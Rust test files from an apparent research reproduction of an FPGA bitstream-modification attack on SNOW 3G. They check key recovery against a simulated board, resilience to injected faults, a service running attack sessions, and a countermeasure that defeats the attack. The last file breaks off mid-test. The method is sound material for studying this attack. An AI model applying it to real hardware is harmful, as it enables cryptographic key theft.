//! Sets 2 and 3 are implementation-pinned regression keystreams that
//! freeze cross-set behaviour. The attack pipeline's correctness
//! argument bottoms out here: key recovery is verified by re-keying a
//! *conformant* SNOW 3G, so a silently drifting cipher would void
//! every end-to-end test at once.

use snow3g::cipher::gamma;
use snow3g::vectors::{
    PAPER_RECOVERED_KEY, PAPER_TABLE_III, PAPER_TABLE_IV, PAPER_TABLE_V, TEST_SET_1_IV,
    TEST_SET_1_KEY, TEST_SET_1_KEYSTREAM, TEST_SET_2_IV, TEST_SET_2_KEY, TEST_SET_2_KEYSTREAM,
    TEST_SET_3_IV, TEST_SET_3_KEY, TEST_SET_3_KEYSTREAM, TEST_SET_4_IV, TEST_SET_4_KEY,
    TEST_SET_4_KEYSTREAM, TEST_SET_4_Z2500,
};
use snow3g::{Iv, Key, Lfsr, Snow3g};

/// The four implementors' test sets: (key, IV, first two keystream
/// words).
const TEST_SETS: [(Key, Iv, [u32; 2]); 4] = [
    (TEST_SET_1_KEY, TEST_SET_1_IV, TEST_SET_1_KEYSTREAM),
    (TEST_SET_2_KEY, TEST_SET_2_IV, TEST_SET_2_KEYSTREAM),
    (TEST_SET_3_KEY, TEST_SET_3_IV, TEST_SET_3_KEYSTREAM),
    (TEST_SET_4_KEY, TEST_SET_4_IV, TEST_SET_4_KEYSTREAM),
];

#[test]
fn all_test_sets_produce_the_pinned_keystream() {
    for (i, (key, iv, expected)) in TEST_SETS.iter().enumerate() {
        let z = Snow3g::new(*key, *iv).keystream(2);
        assert_eq!(z, *expected, "test set {}: got {:08X?} want {:08X?}", i + 1, z, expected);
    }
}

#[test]
fn test_set_4_long_run_matches_z2500() {
    let z = Snow3g::new(TEST_SET_4_KEY, TEST_SET_4_IV).keystream(2500);
    assert_eq!(z[0], TEST_SET_4_KEYSTREAM[0]);
    assert_eq!(z[1], TEST_SET_4_KEYSTREAM[1]);
    assert_eq!(z[2499], TEST_SET_4_Z2500, "z_2500 pins 2500 LFSR/FSM clocks, not just init");
}

#[test]
fn keystream_is_a_prefix_closed_stream() {
    // Asking for fewer words must yield a prefix of the longer run —
    // a regression here would desynchronise the attack's 16-word
    // observations from the verification reads.
    for (key, iv, _) in TEST_SETS {
        let long = Snow3g::new(key, iv).keystream(64);
        let short = Snow3g::new(key, iv).keystream(16);
        assert_eq!(short[..], long[..16]);
    }
}

#[test]
fn distinct_test_sets_produce_distinct_keystreams() {
    // A cheap sanity net against constant-duplication typos in the
    // vector table itself.
    for (i, (_, _, a)) in TEST_SETS.iter().enumerate() {
        for (j, (_, _, b)) in TEST_SETS.iter().enumerate().skip(i + 1) {
            assert_ne!(a, b, "test sets {} and {} share a keystream", i + 1, j + 1);
        }
    }
}

#[test]
fn paper_tables_are_anchored_to_test_set_1() {
    // The paper's experiment key/IV *is* ETSI Test Set 1 (recoverable
    // from its Table V); the three paper tables must stay consistent
    // with the conformance vectors, not drift independently.
    assert_eq!(PAPER_RECOVERED_KEY, TEST_SET_1_KEY);
    assert_eq!(PAPER_TABLE_V, gamma(TEST_SET_1_KEY, TEST_SET_1_IV));
    let mut lfsr = Lfsr::from_state(PAPER_TABLE_IV);
    lfsr.unclock_by(snow3g::REVERSAL_STEPS);
    assert_eq!(lfsr.state(), PAPER_TABLE_V);
    // Table III is key-independent by construction: the same fault
    // configuration under any test-set key yields it.
    for (key, iv, _) in TEST_SETS {
        let z =
            snow3g::FaultySnow3g::new(key, iv, snow3g::FaultSpec::key_independent()).keystream(16);
        assert_eq!(z[..], PAPER_TABLE_III[..], "key-independence broken for {key}");
    }
}
