//! Wire chaos tests: the fleet's line protocol under a hostile
//! transport. The server wraps every accepted connection in the
//! seeded [`ChaosProfile`] fault injector (dropped connections,
//! partial writes, garbled bytes, injected read delays) and the
//! hardened client must ride it out: deadlines instead of hangs,
//! reconnect-with-backoff instead of failures, idempotency tokens
//! instead of duplicate sessions, and a tail cursor instead of lost
//! or replayed events — all while the session underneath recovers the
//! key with totals bit-identical to a clean serial run.

use std::io::Write;
use std::time::{Duration, Instant};

use bitmod::fleet::{
    ChaosProfile, ClientConfig, ClientError, Endpoint, Fleet, FleetClient, FleetConfig,
    FleetServer, SessionOutcome, SessionSpec, SessionState,
};
use bitmod::telemetry::names;

fn temp_root(tag: &str) -> std::path::PathBuf {
    let dir = std::env::temp_dir().join(format!("bitmod-chaosnet-{tag}-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    dir
}

/// A noisy, adaptive, seed-pinned session: enough telemetry traffic
/// to give the chaos injector real surface, and a serial baseline to
/// pin totals against.
fn noisy_spec() -> SessionSpec {
    SessionSpec::builder()
        .noisy(true)
        .seed(11)
        .burst(0.02, 0.30, 0.08)
        .adaptive(true)
        .build()
        .expect("valid noisy spec")
}

/// A hardened client config for a deliberately hostile wire: short
/// read deadline (injected delays surface fast), deep retry budget,
/// tight seeded backoff so the test stays quick.
fn hardened() -> ClientConfig {
    ClientConfig::default()
        .with_read_timeout(Duration::from_secs(2))
        .with_retries(12)
        .with_backoff(Duration::from_millis(10), Duration::from_millis(100))
        .with_seed(1)
}

/// Polls the server's counter dump until `name` reaches `want`.
fn wait_counter(client: &mut FleetClient, name: &str, want: u64) -> u64 {
    let deadline = Instant::now() + Duration::from_secs(600);
    loop {
        let counters = client.counters().expect("counters");
        let got = bitmod::fleet::wire::number_field(&counters, name).unwrap_or(0);
        if got >= want {
            return got;
        }
        assert!(Instant::now() < deadline, "counter {name} stuck at {got}, want {want}");
        std::thread::sleep(Duration::from_millis(20));
    }
}

/// The flagship pin: a full campaign over a wire that drops, tears,
/// garbles and delays frames recovers the key with effort totals
/// bit-identical to an uninterrupted serial run — chaos on the wire
/// never leaks into the attack.
#[test]
fn a_campaign_over_a_chaotic_wire_recovers_serial_identical_totals() {
    let spec = noisy_spec();
    let baseline = spec.run_local().expect("serial baseline completes");
    let SessionOutcome::Recovered(serial_stats) = baseline.outcome else {
        panic!("serial baseline did not recover: {:?}", baseline.outcome);
    };

    let root = temp_root("pin");
    let fleet = Fleet::start(FleetConfig::new(&root).workers(1)).expect("fleet starts");
    let profile =
        ChaosProfile::new(42).with_drop(0.08).with_partial(0.20).with_garble(0.05).with_delay(0.05);
    let server = FleetServer::bind(&Endpoint::parse("127.0.0.1:0"), fleet)
        .expect("binds")
        .with_chaos(profile);
    let endpoint = server.endpoint().clone();
    let join = server.spawn();

    let mut client = FleetClient::connect_with(&endpoint, hardened()).expect("connects");
    let id = client.submit(&spec).expect("submit survives the chaotic wire");

    // Tail rides the same wire: dropped mid-stream connections resume
    // from the cursor, so the event stream arrives complete.
    let mut tailed = Vec::new();
    let state = client.tail(&id, &mut tailed).expect("tail survives the chaotic wire");
    assert_eq!(state, "recovered", "session recovered over chaos");
    assert!(!tailed.is_empty(), "telemetry was streamed");

    let status = client.status(&id).expect("status");
    let field = |name: &str| bitmod::fleet::wire::number_field(&status, name);
    assert_eq!(field("physical"), Some(serial_stats.physical), "physical loads pinned: {status}");
    assert_eq!(field("logical"), Some(serial_stats.logical), "logical queries pinned: {status}");
    assert_eq!(field("retries"), Some(serial_stats.retries), "retries pinned: {status}");

    // The injector really fired, and the counters prove the hardening
    // earned its keep rather than the wire happening to be clean.
    let counters = client.counters().expect("counters");
    let counter = |name: &str| bitmod::fleet::wire::number_field(&counters, name).unwrap_or(0);
    assert!(counter(names::FLEET_NET_CHAOS_FAULTS) > 0, "chaos injected faults: {counters}");
    assert!(counter(names::FLEET_NET_CONNECTIONS) > 1, "client redialled: {counters}");
    assert!(client.reconnects() > 0, "client-side reconnects counted");

    client.shutdown().expect("shutdown survives the chaotic wire");
    join.join().expect("server thread exits");
    let _ = std::fs::remove_dir_all(&root);
}

/// A submit torn mid-frame admits nothing, and a retried submit with
/// the same idempotency token never creates a duplicate session.
#[test]
fn torn_and_retried_submits_never_duplicate_a_session() {
    let root = temp_root("dedup");
    let fleet = Fleet::start(FleetConfig::new(&root).workers(1)).expect("fleet starts");
    let server = FleetServer::bind(&Endpoint::parse("127.0.0.1:0"), fleet).expect("binds");
    let endpoint = server.endpoint().clone();
    let addr = match &endpoint {
        Endpoint::Tcp(addr) => addr.clone(),
        other => panic!("expected a TCP endpoint, got {other:?}"),
    };
    let join = server.spawn();
    let mut client = FleetClient::connect(&endpoint).expect("connects");

    // A mid-frame disconnect: the submit line stops without its
    // newline. The server must reject the torn frame without parsing
    // — the prefix is a syntactically complete request.
    let spec = SessionSpec::builder().seed(5).build().expect("valid spec");
    {
        let mut raw = std::net::TcpStream::connect(&addr).expect("raw connect");
        raw.write_all(b"submit token=tok1").expect("torn frame written");
        // Dropping the stream closes it mid-frame.
    }
    wait_counter(&mut client, names::FLEET_NET_FRAMES_REJECTED, 1);
    let list = client.list().expect("list");
    assert_eq!(list.matches("\"id\":").count(), 0, "torn submit admitted nothing: {list}");

    // The client's retry path: same token, two sends, one session.
    let first = client.submit_with_token(&spec, "tok1").expect("first submit");
    let second = client.submit_with_token(&spec, "tok1").expect("retried submit");
    assert_eq!(first, second, "one token, one session");
    let deduped = wait_counter(&mut client, names::FLEET_NET_SUBMIT_DEDUPED, 1);
    assert!(deduped >= 1, "dedup counted");
    let list = client.list().expect("list");
    assert_eq!(list.matches("\"id\":").count(), 1, "exactly one session admitted: {list}");

    client.shutdown().expect("shutdown");
    join.join().expect("server thread exits");
    let _ = std::fs::remove_dir_all(&root);
}

/// A daemon that accepts but never answers surfaces as a typed
/// timeout bounded by the configured deadline — not a forever-hang.
#[test]
fn a_silent_server_times_out_instead_of_hanging() {
    let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("binds");
    let addr = listener.local_addr().expect("addr");
    let hold = std::thread::spawn(move || {
        // Accept and hold connections open without ever replying.
        let mut held = Vec::new();
        while let Ok((conn, _)) = listener.accept() {
            held.push(conn);
            if held.len() >= 2 {
                break;
            }
        }
        held
    });

    let config =
        ClientConfig::default().with_read_timeout(Duration::from_millis(200)).with_retries(0);
    let endpoint = Endpoint::parse(&addr.to_string());
    let mut client = FleetClient::connect_with(&endpoint, config).expect("connects");
    let started = Instant::now();
    match client.ping() {
        Err(ClientError::Timeout(after)) => {
            assert_eq!(after, Duration::from_millis(200), "the configured deadline is reported");
        }
        other => panic!("expected a typed timeout, got {other:?}"),
    }
    assert!(started.elapsed() < Duration::from_secs(30), "bounded by the deadline, not a hang");
    // Unblock the holder thread.
    let _ = std::net::TcpStream::connect(addr);
    let _ = hold.join();
}

/// A tail subscriber that vanishes without closing cleanly is reaped
/// via its lease: the server notices the dead stream on a heartbeat
/// or event write and frees the connection thread.
#[cfg(unix)]
#[test]
fn a_vanished_tail_subscriber_is_lease_reaped() {
    use std::io::{BufRead, BufReader};
    use std::os::unix::net::UnixStream;

    let root = temp_root("lease");
    let sock = root.join("serve.sock");
    std::fs::create_dir_all(&root).expect("test root");
    let fleet = Fleet::start(FleetConfig::new(root.join("fleet")).workers(1)).expect("starts");
    let endpoint = Endpoint::Unix(sock.clone());
    let server = FleetServer::bind(&endpoint, fleet).expect("binds");
    let join = server.spawn();
    let mut client = FleetClient::connect(&endpoint).expect("connects");

    // A long-lived noisy session keeps the tail stream alive.
    let id = client.submit(&noisy_spec()).expect("submits");
    {
        let raw = UnixStream::connect(&sock).expect("raw tail connect");
        let mut writer = raw.try_clone().expect("clone");
        writeln!(writer, "tail {id} from=0").expect("tail request");
        let mut line = String::new();
        BufReader::new(raw).read_line(&mut line).expect("first tail line");
        assert!(!line.is_empty(), "the lease opened and streamed");
        // Dropping both halves closes the socket without ceremony.
    }
    wait_counter(&mut client, names::FLEET_NET_TAILS_OPENED, 1);
    wait_counter(&mut client, names::FLEET_NET_LEASES_REAPED, 1);

    client.cancel(&id).expect("cancel the backing session");
    client.shutdown().expect("shutdown");
    join.join().expect("server thread exits");
    let _ = std::fs::remove_dir_all(&root);
}

/// Graceful drain: `shutdown` checkpoints the running session and
/// persists the queued one; a fresh fleet on the same root finishes
/// both with serial-identical totals.
#[test]
fn drain_checkpoints_running_and_persists_queued_sessions() {
    let spec = noisy_spec();
    let baseline = spec.run_local().expect("serial baseline completes");
    let SessionOutcome::Recovered(serial_stats) = baseline.outcome else {
        panic!("serial baseline did not recover: {:?}", baseline.outcome);
    };

    let root = temp_root("drain");
    let fleet = Fleet::start(FleetConfig::new(&root).workers(1)).expect("fleet starts");
    let running = fleet.submit(spec.clone()).expect("first submit");
    let queued = fleet.submit(spec.clone()).expect("second submit");

    // Wait for the first write-ahead checkpoint so the drain has a
    // mid-flight session to park.
    let journal = running.layout().journal();
    let deadline = Instant::now() + Duration::from_secs(600);
    while !journal.exists() {
        assert!(Instant::now() < deadline, "running session never journalled");
        assert!(!running.state().is_terminal(), "session outran the drain");
        std::thread::sleep(Duration::from_millis(2));
    }
    let metrics = fleet.drain();
    assert!(
        metrics.counter(names::FLEET_DRAIN_PARKED) >= 1,
        "the running session was parked, not killed"
    );
    assert!(journal.exists(), "the checkpoint survived the drain");
    let (running_id, queued_id) = (running.id().to_string(), queued.id().to_string());
    drop((running, queued, fleet));

    // Reboot on the same root: the boot rescan requeues both, the
    // parked one resumes from its journal.
    let fleet = Fleet::start(FleetConfig::new(&root).workers(1)).expect("fleet reboots");
    for id in [&running_id, &queued_id] {
        let handle = fleet.handle(id).unwrap_or_else(|| panic!("session {id} survived the drain"));
        let status = handle.wait_timeout(Duration::from_secs(600)).expect("terminates");
        assert_eq!(status.state, SessionState::Recovered, "{id} recovered ({})", status.note);
        assert_eq!(status.stats, serial_stats, "{id} totals pinned to the serial run");
    }
    assert!(fleet.counters().counter(names::FLEET_SESSIONS_RESUMED) >= 1, "resume counted");
    fleet.shutdown();
    let _ = std::fs::remove_dir_all(&root);
}
