//! Surviving a flaky board: the complete Section VI attack against an
//! [`UnreliableBoard`] — transient load failures, simulated timeouts,
//! per-bit keystream glitches and truncated reads — must still
//! recover the ETSI Test Set 1 key, deterministically for a fixed
//! seed and within a physical query budget. Exhausting the budget
//! mid-run must yield a structured partial result, never a panic or
//! an opaque error.

// These exercise (or ride on) the pre-0.7 free-form `Attack`
// constructors, kept working behind deprecation warnings; the
// replacement surface is `bitmod::fleet::SessionSpec`.
#![allow(deprecated)]

use bitmod::attack::{AttackError, AttackPhase};
use bitmod::resilient::{ResilienceConfig, ResilienceError};
use bitmod::Attack;
use fpga_sim::{FaultProfile, ImplementOptions, Snow3gBoard, UnreliableBoard};
use netlist::snow3g_circuit::Snow3gCircuitConfig;
use snow3g::vectors::{TEST_SET_1_IV, TEST_SET_1_KEY};

/// The fault seed every deterministic assertion in this file pins.
const SEED: u64 = 7;

/// Physical-attempt ceiling for the full noisy run. At seed 7 with
/// the rates below the attack needs ≈3,100 attempts; the cap proves
/// the run stays within a budget while leaving head-room against
/// incidental query-order changes.
const BUDGET: u64 = 8_000;

fn flaky_board(seed: u64) -> UnreliableBoard {
    let board = Snow3gBoard::build(
        Snow3gCircuitConfig::unprotected(TEST_SET_1_KEY, TEST_SET_1_IV),
        &ImplementOptions::default(),
    )
    .expect("board builds");
    // The acceptance floor: ≥ 1% per-bit keystream glitches and
    // ≥ 10% transient load failures (plus the preset's timeouts and
    // truncated reads).
    UnreliableBoard::new(board, FaultProfile::flaky(seed))
}

fn noisy_config(seed: u64) -> ResilienceConfig {
    ResilienceConfig::noisy(seed ^ 0x5EED).with_budget(BUDGET)
}

#[test]
fn noisy_attack_recovers_key_within_budget() {
    let board = flaky_board(SEED);
    let golden = board.extract_bitstream();
    let report =
        Attack::with_resilience(&board, golden, bitstream::FRAME_BYTES, noisy_config(SEED))
            .expect("prepares")
            .run()
            .expect("attack survives the flaky board");

    assert_eq!(report.recovered.key, TEST_SET_1_KEY);
    assert_eq!(report.recovered.iv, TEST_SET_1_IV);
    assert_eq!(report.recovered.key.to_string(), "2BD6459F82C5B300952C49104881FF48");
    assert_eq!(report.z_luts.len(), 32);
    assert_eq!(report.feedback_luts.len(), 32);

    // Faults were actually injected and absorbed — this was not a
    // lucky clean run.
    let faults = board.fault_stats();
    assert!(faults.transient_failures > 0, "load failures occurred: {faults:?}");
    assert!(faults.bits_flipped > 0, "keystream glitches occurred: {faults:?}");
    assert!(report.resilience.transient_errors > 0, "the retry layer absorbed them");
    assert!(report.resilience.backoff_ms > 0, "backoff advanced the virtual clock");
    assert!(
        report.oracle_loads as u64 <= BUDGET,
        "{} attempts within the {BUDGET} budget",
        report.oracle_loads
    );
    // Majority voting multiplies physical cost: more ballots than
    // logical queries.
    assert!(report.resilience.votes_cast > report.resilience.queries);
}

#[test]
fn noisy_attack_is_deterministic_for_a_fixed_seed() {
    let run = || {
        let board = flaky_board(SEED);
        let golden = board.extract_bitstream();
        let report =
            Attack::with_resilience(&board, golden, bitstream::FRAME_BYTES, noisy_config(SEED))
                .expect("prepares")
                .run()
                .expect("runs");
        (report.oracle_loads, report.resilience.backoff_ms, board.fault_stats())
    };
    let (loads_a, backoff_a, faults_a) = run();
    let (loads_b, backoff_b, faults_b) = run();
    assert_eq!(loads_a, loads_b, "identical seed, identical physical load count");
    assert_eq!(backoff_a, backoff_b, "identical backoff trace");
    assert_eq!(faults_a, faults_b, "identical injected-fault trace");
}

#[test]
fn budget_exhaustion_yields_structured_partial_result() {
    let board = flaky_board(SEED);
    let golden = board.extract_bitstream();
    // 500 attempts is enough to verify the keystream path but not to
    // finish the feedback hypothesis at these fault rates.
    let config = noisy_config(SEED).with_budget(500);
    let err = Attack::with_resilience(&board, golden, bitstream::FRAME_BYTES, config)
        .expect("prepares")
        .run()
        .expect_err("the budget must not cover the full attack");

    let AttackError::Exhausted { checkpoint, source } = err else {
        panic!("expected a checkpointed exhaustion, got: {err}");
    };
    assert!(matches!(source, ResilienceError::BudgetExhausted { used: 500, limit: 500 }));
    // The partial result carries real progress: phase 2 completed
    // (all 32 keystream-path LUTs) and phase 3 was underway.
    assert!(checkpoint.phase >= AttackPhase::FeedbackHypothesis, "phase: {}", checkpoint.phase);
    assert_eq!(checkpoint.z_luts.len(), 32);
    assert!(!checkpoint.feedback_luts.is_empty(), "some feedback LUTs verified before the cut");
    assert!(checkpoint.lattice.is_some(), "the site lattice was inferred");
    assert_eq!(checkpoint.oracle_attempts, 500);
    assert!(!checkpoint.candidate_counts.is_empty());
    // The summary names the phase for the operator.
    assert!(checkpoint.to_string().contains("feedback-path hypothesis"));
}

#[test]
fn resilience_off_matches_the_ideal_run() {
    // Against the ideal board, the pass-through configuration must
    // behave exactly like the unwrapped attack: one physical attempt
    // per logical query, no backoff, no extra ballots.
    let board = Snow3gBoard::build(
        Snow3gCircuitConfig::unprotected(TEST_SET_1_KEY, TEST_SET_1_IV),
        &ImplementOptions::default(),
    )
    .expect("board builds");
    let golden = board.extract_bitstream();
    let report =
        Attack::with_resilience(&board, golden, bitstream::FRAME_BYTES, ResilienceConfig::off())
            .expect("prepares")
            .run()
            .expect("runs");
    assert_eq!(report.recovered.key, TEST_SET_1_KEY);
    assert_eq!(report.oracle_loads as u64, report.resilience.queries);
    assert_eq!(report.resilience.transient_errors, 0);
    assert_eq!(report.resilience.backoff_ms, 0);
}
