//! Surviving a flaky board: the complete Section VI attack against an
//! [`UnreliableBoard`] — transient load failures, simulated timeouts,
//! per-bit keystream glitches and truncated reads — must still
//! recover the ETSI Test Set 1 key, deterministically for a fixed
//! seed and within a physical query budget. Exhausting the budget
//! mid-run must yield a structured partial result, never a panic or
//! an opaque error.

use bitmod::attack::AttackPhase;
use bitmod::campaign::CancelToken;
use bitmod::fleet::{ResumePolicy, SessionIo, SessionOutcome, SessionSpec};
use bitmod::Telemetry;
use fpga_sim::{ImplementOptions, Snow3gBoard, UnreliableBoard};
use netlist::snow3g_circuit::Snow3gCircuitConfig;
use snow3g::vectors::{TEST_SET_1_IV, TEST_SET_1_KEY};

/// The fault seed every deterministic assertion in this file pins.
const SEED: u64 = 7;

/// Physical-attempt ceiling for the full noisy run. At seed 7 with
/// the rates below the attack needs ≈3,100 attempts; the cap proves
/// the run stays within a budget while leaving head-room against
/// incidental query-order changes.
const BUDGET: u64 = 8_000;

/// The noisy session every test here starts from: the "flaky" fault
/// preset (≥ 1% per-bit keystream glitches, ≥ 10% transient load
/// failures, plus the preset's timeouts and truncated reads) with
/// seeded retry/voting — the acceptance floor.
fn noisy_spec(budget: u64) -> SessionSpec {
    SessionSpec::builder().noisy(true).seed(SEED).budget(budget).build().expect("valid spec")
}

/// The flaky board the spec's own fault profile describes.
fn flaky_board(spec: &SessionSpec) -> UnreliableBoard {
    let board = Snow3gBoard::build(
        Snow3gCircuitConfig::unprotected(TEST_SET_1_KEY, TEST_SET_1_IV),
        &ImplementOptions::default(),
    )
    .expect("board builds");
    UnreliableBoard::new(board, spec.fault_profile())
}

fn io() -> SessionIo {
    SessionIo {
        journal: None,
        resume: ResumePolicy::Never,
        telemetry: Telemetry::off(),
        cancel: CancelToken::new(),
        expected_key: Some(TEST_SET_1_KEY),
    }
}

#[test]
fn noisy_attack_recovers_key_within_budget() {
    let spec = noisy_spec(BUDGET);
    let board = flaky_board(&spec);
    let golden = board.extract_bitstream();
    let session = spec.run_harnessed(&board, golden, &io()).expect("session runs");
    let report = session.attack.expect("attack survives the flaky board");

    assert_eq!(report.recovered.key, TEST_SET_1_KEY);
    assert_eq!(report.recovered.iv, TEST_SET_1_IV);
    assert_eq!(report.recovered.key.to_string(), "2BD6459F82C5B300952C49104881FF48");
    assert_eq!(report.z_luts.len(), 32);
    assert_eq!(report.feedback_luts.len(), 32);

    // Faults were actually injected and absorbed — this was not a
    // lucky clean run.
    let faults = board.fault_stats();
    assert!(faults.transient_failures > 0, "load failures occurred: {faults:?}");
    assert!(faults.bits_flipped > 0, "keystream glitches occurred: {faults:?}");
    assert!(report.resilience.transient_errors > 0, "the retry layer absorbed them");
    assert!(report.resilience.backoff_ms > 0, "backoff advanced the virtual clock");
    assert!(
        report.oracle_loads as u64 <= BUDGET,
        "{} attempts within the {BUDGET} budget",
        report.oracle_loads
    );
    // Majority voting multiplies physical cost: more ballots than
    // logical queries.
    assert!(report.resilience.votes_cast > report.resilience.queries);
}

#[test]
fn noisy_attack_is_deterministic_for_a_fixed_seed() {
    let run = || {
        let spec = noisy_spec(BUDGET);
        let board = flaky_board(&spec);
        let golden = board.extract_bitstream();
        let session = spec.run_harnessed(&board, golden, &io()).expect("session runs");
        let report = session.attack.expect("runs");
        (report.oracle_loads, report.resilience.backoff_ms, board.fault_stats())
    };
    let (loads_a, backoff_a, faults_a) = run();
    let (loads_b, backoff_b, faults_b) = run();
    assert_eq!(loads_a, loads_b, "identical seed, identical physical load count");
    assert_eq!(backoff_a, backoff_b, "identical backoff trace");
    assert_eq!(faults_a, faults_b, "identical injected-fault trace");
}

#[test]
fn budget_exhaustion_yields_structured_partial_result() {
    // 500 attempts is enough to verify the keystream path but not to
    // finish the feedback hypothesis at these fault rates.
    let spec = noisy_spec(500);
    let board = flaky_board(&spec);
    let golden = board.extract_bitstream();
    let session = spec.run_harnessed(&board, golden, &io()).expect("session runs");

    let SessionOutcome::Exhausted { summary, .. } = &session.outcome else {
        panic!("expected a checkpointed exhaustion, got: {:?}", session.outcome);
    };
    assert!(summary.contains("500/500"), "the cut names its budget: {summary}");
    // The partial result carries real progress: phase 2 completed
    // (all 32 keystream-path LUTs) and phase 3 was underway.
    let checkpoint = session.checkpoint.expect("exhaustion carries the checkpoint");
    assert!(checkpoint.phase >= AttackPhase::FeedbackHypothesis, "phase: {}", checkpoint.phase);
    assert_eq!(checkpoint.z_luts.len(), 32);
    assert!(!checkpoint.feedback_luts.is_empty(), "some feedback LUTs verified before the cut");
    assert!(checkpoint.lattice.is_some(), "the site lattice was inferred");
    assert_eq!(checkpoint.oracle_attempts, 500);
    assert!(!checkpoint.candidate_counts.is_empty());
    // The summary names the phase for the operator.
    assert!(checkpoint.to_string().contains("feedback-path hypothesis"));
}

#[test]
fn resilience_off_matches_the_ideal_run() {
    // Against the ideal board, the pass-through configuration must
    // behave exactly like the unwrapped attack: one physical attempt
    // per logical query, no backoff, no extra ballots.
    let board = Snow3gBoard::build(
        Snow3gCircuitConfig::unprotected(TEST_SET_1_KEY, TEST_SET_1_IV),
        &ImplementOptions::default(),
    )
    .expect("board builds");
    let golden = board.extract_bitstream();
    let spec = SessionSpec::builder().build().expect("valid spec");
    let session = spec.run_harnessed(&board, golden, &io()).expect("session runs");
    let report = session.attack.expect("runs");
    assert_eq!(report.recovered.key, TEST_SET_1_KEY);
    assert_eq!(report.oracle_loads as u64, report.resilience.queries);
    assert_eq!(report.resilience.transient_errors, 0);
    assert_eq!(report.resilience.backoff_ms, 0);
}
