//! Section VII: the countermeasure defeats the attack.
//!
//! The protected board maps the target XOR vector `v` (and five decoy
//! XOR vectors) to trivial 2-input-XOR LUTs. The composite covers of
//! Table II disappear (Table VI), the key-recovery attack aborts, and
//! the XOR-half candidate scan leaves an exhaustive search that is
//! infeasible (the paper's `C(171, 32) ≈ 2^115`).

use bitmod::countermeasure::{self, complexity};
use bitmod::{Attack, AttackError, Catalogue};
use fpga_sim::{ImplementOptions, Snow3gBoard};
use netlist::snow3g_circuit::Snow3gCircuitConfig;
use snow3g::vectors::{TEST_SET_1_IV, TEST_SET_1_KEY};

fn protected_board() -> Snow3gBoard {
    Snow3gBoard::build(
        Snow3gCircuitConfig::protected(TEST_SET_1_KEY, TEST_SET_1_IV),
        &ImplementOptions::default(),
    )
    .expect("board builds")
}

#[test]
fn attack_fails_on_protected_board() {
    let board = protected_board();
    let result = Attack::new(&board, board.extract_bitstream()).expect("attack prepares").run();
    // The keystream-path LUTs no longer exist as composite f2 covers,
    // so the attack cannot even complete its first identification
    // phase.
    match result {
        Err(AttackError::ZPathIncomplete { bits_found }) => {
            assert!(bits_found < 32, "no full z-path cover set: {bits_found}");
        }
        Err(other) => panic!("attack failed for an unexpected reason: {other}"),
        Ok(report) => panic!(
            "attack must not succeed against the protected design (recovered {})",
            report.recovered.key
        ),
    }
}

#[test]
fn table6_analog_feedback_rows_are_zero() {
    // Table VI of the paper: every feedback-path candidate function
    // has zero (true) hits in the protected bitstream. We assert the
    // composite implementation-family rows are empty up to filler
    // coincidences, which the paper also observed ("the obtained
    // information is not useful").
    let board = protected_board();
    let golden = board.extract_bitstream();
    let range = golden.fdri_data_range().unwrap();
    let payload = &golden.as_bytes()[range];
    // Like the paper's Table VI, a few stray matches remain (other
    // logic or filler coincidentally in the same P class — e.g. the
    // g4 shape, a gated 4-input XOR, also occurs in adder covers);
    // what matters is that the 32-strong target populations are gone.
    let cat = Catalogue::full();
    let rows = [("m0", 2), ("m0b", 2), ("g4", 8), ("g3c", 2)];
    let scanner = bitmod::Scanner::builder()
        .stride(bitstream::FRAME_BYTES)
        .candidates(rows.iter().map(|(name, _)| cat.shape(name).unwrap().truth))
        .build()
        .expect("valid scan configuration");
    for ((name, max), hits) in rows.iter().zip(scanner.scan_grouped(payload)) {
        assert!(
            hits.len() <= *max,
            "protected bitstream should have almost no {name} covers, found {}",
            hits.len()
        );
    }
}

#[test]
fn xor_half_scan_leaves_intractable_search() {
    let board = protected_board();
    let golden = board.extract_bitstream();
    // Constrain the second scan to a window, as the paper does
    // ("interval of 200,000 byte positions").
    let range = golden.fdri_data_range().unwrap();
    let window = 0..(range.len() / 2);
    let report = countermeasure::evaluate(&board, &golden, Some(window)).expect("evaluation runs");

    // The scan floods the attacker with candidates...
    assert!(
        report.xor_half_hits_unconstrained >= 96,
        "expected a large candidate set, got {}",
        report.xor_half_hits_unconstrained
    );
    assert!(report.xor_half_hits_constrained <= report.xor_half_hits_unconstrained);

    // ... of which the keystream-path ones can be pruned
    // (Section VII-C), but what remains is far more than 32 ...
    assert!(report.z_path_pruned >= 16, "z-path XORs prunable: {}", report.z_path_pruned);
    assert!(
        report.remaining > 64,
        "remaining candidates must swamp the 32 targets: {}",
        report.remaining
    );

    // ... making the exhaustive search infeasible.
    assert!(
        report.search_bits > 60.0,
        "exhaustive search must be intractable: 2^{:.1}",
        report.search_bits
    );
}

#[test]
fn lemma_arithmetic_matches_paper() {
    // C(171, 32) ≈ 4.9 × 10³⁴ ≈ 2¹¹⁵.
    assert!((complexity::log2_binomial(171, 32) - 115.0).abs() < 1.0);
    // r = 32x decoys with x ≥ 16/e − 1 ≈ 4.9 reach 128-bit security.
    let x = complexity::required_decoy_multiple(128.0);
    assert!(x > 4.8 && x < 5.0);
    // And the bound is monotone in r.
    assert!(complexity::log2_stirling_bound(32, 32 * 5) > complexity::log2_stirling_bound(32, 32));
}

#[test]
fn protected_board_still_functions() {
    // The countermeasure must not change the cipher.
    let board = protected_board();
    let z = board.generate_keystream(&board.extract_bitstream(), 2).expect("runs");
    assert_eq!(z, vec![0xABEE9704, 0x7AC31373]);
}
