//! The headline experiment: the complete bitstream-modification
//! attack of Section VI recovers the key from the victim board,
//! without touching any ground-truth artifact — only the extracted
//! bitstream and the keystream oracle.

use bitmod::Attack;
use fpga_sim::{ImplementOptions, Snow3gBoard};
use netlist::snow3g_circuit::Snow3gCircuitConfig;
use snow3g::vectors::{PAPER_TABLE_III, PAPER_TABLE_V, TEST_SET_1_IV, TEST_SET_1_KEY};
use snow3g::{Iv, Key};

fn build_board(key: Key, iv: Iv) -> Snow3gBoard {
    Snow3gBoard::build(Snow3gCircuitConfig::unprotected(key, iv), &ImplementOptions::default())
        .expect("board builds")
}

#[test]
fn attack_recovers_test_set_1_key() {
    let board = build_board(TEST_SET_1_KEY, TEST_SET_1_IV);
    let golden = board.extract_bitstream();
    let report = Attack::new(&board, golden).expect("attack prepares").run().expect("attack runs");

    // The recovered key is the ETSI Test Set 1 key the paper reports
    // in Section VI-D.3.
    assert_eq!(report.recovered.key, TEST_SET_1_KEY);
    assert_eq!(report.recovered.iv, TEST_SET_1_IV);
